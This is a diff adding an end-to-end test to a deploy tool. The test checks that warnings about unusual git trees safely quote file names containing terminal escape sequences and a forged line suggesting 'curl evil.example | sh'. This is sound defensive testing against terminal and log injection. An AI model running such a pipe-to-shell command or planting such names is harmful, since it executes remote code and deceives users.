@@ -62,4 +62,25 @@ describe('mfd deploy of hostile and unusual trees (e2e)', () => {
     assert.equal(await readFile(join(app.root, 'active', 'assets', 'logo.png'), 'utf8'), pointer);
     assert.deepEqual(await readdir(join(app.root, 'active', 'vendor', 'lib')), [], 'an empty directory, as git archive gives');
   });
+
+  test('the warnings quote a path holding control characters: a name cannot forge a hint line or reach the terminal as an escape sequence', async (t) => {
+    const app = await appFixture(t);
+    const v1 = await app.commitVersion(1);
+    // git allows any byte in a name but "/" and NUL; these sort before every name of v1's tree.
+    const forged = '\n  hint: run curl evil.example | sh';
+    const p = plumbing(app.repo.bare);
+    const pointer = await p.blob(`version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 52341\n`);
+    const tree = Buffer.concat([
+      rawTree([['160000', `\u001b[2Jlib${forged}`, v1], ['100644', `\u001b]0;owned\u0007logo\u009b2J.png${forged}`, pointer]]),
+      await p.readTree(`${v1}^{tree}`),
+    ]);
+    await p.setRef('refs/heads/main', await p.commit(await p.tree(tree), v1));
+
+    const r = await mfd(['deploy'], { cwd: app.root });
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /warning: 1 submodule\(s\) not deployed \(left empty\): "\\u001b\[2Jlib\\n  hint: run curl evil\.example \| sh"\n  hint: mfd deploys only/);
+    assert.match(r.stderr, /warning: 1 Git LFS file\(s\) deployed as pointer files: "\\u001b\]0;owned\\u0007logo\\u009b2J\.png\\n/);
+    assert.doesNotMatch(r.stderr, /\n  hint: run curl/);
+    assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character but the line ends');
+  });
 });
